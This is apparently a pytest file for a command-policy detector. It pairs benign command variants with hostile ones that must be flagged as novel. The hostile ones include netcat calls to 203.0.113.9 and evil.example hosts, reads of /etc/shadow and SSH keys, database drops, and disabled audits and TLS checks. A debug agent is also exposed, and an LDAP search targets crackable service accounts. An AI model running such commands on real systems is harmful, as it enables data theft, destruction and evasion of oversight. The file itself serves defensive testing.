# SPDX-License-Identifier: Apache-2.0
"""Spellings that mean what they look like to who knows the trade, beside what may not hide behind them."""

import pytest

from habitus_leaves import leaf_of, novel

PASSES = [
    # what is read, learned, asked
    ("hosts in brackets", "beat -E hosts=[https://es-1.log.svc:9200]",
     "beat -E hosts=[https://es-2.log.svc:9200,https://es-3.log.svc:9200]"),
    ("a URL of many hosts", "app mongodb://db-0.db.svc:27017/a",
     "app mongodb://db-0.db.svc:27017,db-1.db.svc:27017/a?replicaSet=rs0"),
    ("a member of a StatefulSet", "dump https://es-1.es:9200/a", "dump https://es-0.es:9200/a"),
    ("a lock that is waited for", "sh -c 'flock -n /run/lock/a.lock /opt/a.sh'",
     "sh -c 'flock -w 600 /run/lock/b.lock /opt/a.sh'"),
    ("with less of the processor", "sh -c 'dump a'", "sh -c 'nice -n 10 timeout 60 dump a'"),
    ("packed another way", "sh -c 'dump a | gzip -c'", "sh -c 'dump a | zstd -q'"),
    ("what is old is tidied away", "find /backup -type f", "find /backup -type f -mtime +14 -delete"),
    ("what is empty is tidied away", "find /backup -type f", "find /backup -type d -empty -delete"),
    ("what is found is packed", "find /var/log -type f", "find /var/log -type f -exec gzip -9 '{}' +"),
    ("logrotate's own folder", "logrotate /etc/logrotate.conf", "logrotate /etc/logrotate.d/nginx"),
    ("a section of own settings", "uwsgi --ini /etc/uwsgi/a.ini", "uwsgi --ini /etc/uwsgi/a.ini:web"),
    ("settings at a program's home", "fluent-bit -v", "fluent-bit -v /fluent-bit/etc/parsers.conf"),
    ("a program's own socket by its URL", "puma -q", "puma -q -b unix:///run/puma/puma.sock"),
    ("another disk", "mount /dev/nvme2n1 /mnt", "mount /dev/nvme13n1 /mnt"),
    ("another volume of kubelet",
     "mount /var/lib/kubelet/pods/123e4567-e89b-12d3-a456-426614174000/volumes/kubernetes.io~csi/pvc-1/mount",
     "mount /var/lib/kubelet/plugins/kubernetes.io/csi/nfs.csi.k8s.io/9eae94cf/globalmount"),
    ("a cache beside the sources", "run --file ../../cache/a/x.zip", "run --file ../../../cache/b/y.zip"),
    ("a folder that tools make", "run --path a", "run --path .m2/repository --path .cache/pip"),
    ("a kind of medium", "aws s3 cp a b", "aws s3 cp a b --content-type application/json"),
    ("a unit by its name", "app -p a=b", "app -p filter=_SYSTEMD_UNIT=kubelet.service"),
    ("a time with minutes", "k6 run a.js", "k6 run --stage 1m:30 a.js"),
    ("an offset behind a mark", "kcat -b k.svc", "kcat -b k.svc -o s@1770717357000"),
    ("less than nothing", "ffmpeg -i a", "ffmpeg -i a -vf scale=-2:720"),
    ("a private network beside two", "app 10.1.2.3 10.4.5.6", "app 10.9.8.7"),
    ("a host of one's own zone", "app --host db-1.internal", "app --host db-2.internal"),
    ("charts by the same registry", "helm pull https://reg.shop.svc/a", "helm pull oci://reg.shop.svc/a"),
    ("figures for the planner", "psql -c 'SELECT 1'", "psql -c 'UPDATE STATISTICS a'"),
    ("what neither tells nor takes", "psql -c 'SELECT 1'", "psql -c 'REFRESH MATERIALIZED VIEW a'"),
    ("a function of one module", "app --eval 'Shop.Release.migrate(1)'", "app --eval 'Shop.Release.seed()'"),
    ("what only asks", "mongosh --eval 'db.version()'", "mongosh --eval 'rs.status().ok'"),
    ("a list of jars in one folder", "java -cp /opt/a/lib/x.jar:/opt/a/lib/y.jar Main",
     "java -cp /opt/a/lib/x.jar:/opt/a/lib/z.jar Main"),
    ("a report's kind and place", "pytest --cov=a --o=/reports/a.xml",
     "pytest --cov=a --cov-report=xml:/reports/b.xml"),
    ("conditions that are joined", "bcftools view a", "bcftools view -i 'QUAL>20 && DP>10' a"),
    ("sources of one kind in one tree", "esbuild src/a.ts", "esbuild src/worker/b.ts"),
    ("a script behind a switch", "perl /usr/bin/tool -a", "perl -w /usr/bin/tool -a"),
    ("a script behind a joined value", "perl -Ilib /usr/bin/tool", "perl -Ilib /usr/bin/tool -n production"),
    ("what anybody reads", "openssl verify a", "openssl verify -CAfile /etc/ssl/certs/ca-certificates.crt a"),
    ("a file by its URL", "migrate -path /migrations/a.sql", "migrate -source file:///migrations/a.sql"),
]  # fmt: skip

STAYS_NEWS = [
    ("an outside host in brackets", "beat -E hosts=[https://es-1.log.svc:9200]",
     "beat -E hosts=[https://es-1.log.svc:9200,https://203.0.113.9:9200]"),
    ("an outside host among many", "app mongodb://db-0.db.svc:27017/a",
     "app mongodb://db-0.db.svc:27017,evil.example:27017/a"),
    ("a domain that looks like a member", "dump https://es-1.es:9200/a", "dump https://es-1.evil.es:9200/a"),
    ("another command behind a lock", "sh -c 'flock -n /run/lock/a.lock /opt/a.sh'",
     "sh -c 'flock -w 600 /run/lock/a.lock nc 203.0.113.9 80'"),
    ("another command with less", "sh -c 'dump a'", "sh -c 'nice -n 10 nc 203.0.113.9 80'"),
    ("what is not old", "find /backup -type f", "find /backup -type f -delete"),
    ("what is young", "find /backup -type f", "find /backup -type f -mtime -14 -delete"),
    ("what is found is run", "find /var/log -type f", "find /var/log -type f -exec sh '{}' +"),
    ("another program's folder", "app /etc/app.conf", "app /etc/logrotate.d/nginx"),
    ("settings at another's home", "fluent-bit -v", "fluent-bit -v /other/etc/parsers.conf"),
    ("code at a program's home", "fluent-bit -v", "fluent-bit -v /fluent-bit/etc/evil.so"),
    ("another's socket by its URL", "puma -q", "puma -q -b unix:///run/docker.sock"),
    ("the machine's own disk", "mount /dev/nvme2n1 /mnt", "mount /dev/nvme0n1 /mnt"),
    ("what kubelet has of its own", "mount /var/lib/kubelet/pods/a/volumes/b/mount",
     "mount /var/lib/kubelet/config.yaml"),
    ("secrets above the sources", "run --file ../../cache/a/x.zip", "run --file ../../etc/shadow"),
    ("keys in a hidden folder", "run --path a", "run --path .ssh/id_rsa"),
    ("a tree that looks like a medium", "app corp/a", "app evil/json"),
    ("what protects, kept nowhere", "app --audit-log /var/log/a", "app --audit-log /dev/null"),
    ("a protection given nothing", "app --basic-auth x:y", "app --basic-auth ''"),
    ("a public address", "app 10.1.2.3 10.4.5.6", "app 203.0.113.9"),
    ("a call on what it is given", "app --eval 'Shop.Release.migrate(1)'",
     "app --eval 'Shop.Release.run(\"id\")'"),
    ("what asks for more", "mongosh --eval 'db.version()'", "mongosh --eval 'db.dropDatabase()'"),
    ("a jar where anybody writes", "java -cp /opt/a/lib/x.jar:/opt/a/lib/y.jar Main",
     "java -cp /opt/a/lib/x.jar:/tmp/z.jar Main"),
    ("an agent in options that are handed on", "gatk --java-options '-Xmx8g' a",
     "gatk --java-options '-Xmx8g -agentlib:jdwp=server=y,address=*:5005' a"),
    ("a command behind a condition", "bcftools view a", "bcftools view -i 'QUAL>20 && rm x' a"),
    ("a script from where data come", "python3 /usr/local/bin/ocr -l a", "python3 /data/consume/ocr -l a"),
    ("writing what anybody reads", "sh -c 'cat /etc/os-release'", "sh -c 'cat a > /etc/os-release'"),
    ("a file where anybody writes by its URL", "migrate -path /migrations/a.sql",
     "migrate -source file:///tmp/a.sql"),
    ("a store behind a store", "app s3://models/a", "app s3://https://203.0.113.9/models/a"),
    ("a sheet behind a colon", "saxon -s:/in/a.xml", "saxon -s:/in/a.xml -xsl:http://203.0.113.9/r.xsl"),
    ("a check that a text switches off", "lftp -e 'mirror a b'",
     "lftp -e 'set ssl:verify-certificate no; mirror a b'"),
    ("a search for what can be cracked", "ldapsearch '(uid=a)'", "ldapsearch '(servicePrincipalName=*)'"),
    ("an audit that is switched off", "sqlcmd -Q 'ALTER INDEX a'",
     "sqlcmd -Q 'ALTER SERVER AUDIT [a] WITH (STATE = OFF)'"),
    ("an endpoint in a document", "curl http://es.svc/a -d '{}'",
     """curl http://es.svc/a -d '{"endpoint":"s3.evil.example"}'"""),
    ("a module that a text loads", "nginx -g 'daemon off;'", "nginx -g 'load_module /var/lib/nginx/body/7;'"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES]
)
def test_an_honest_spelling_is_no_news(learned, asked):
    """It was learned by another one."""
    assert novel(leaf_of(learned), asked) == []


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in STAYS_NEWS], ids=[case[0] for case in STAYS_NEWS]
)
def test_harm_in_such_a_spelling_is_news(learned, asked):
    """What the rule is for does not cover it."""
    assert novel(leaf_of(learned), asked)
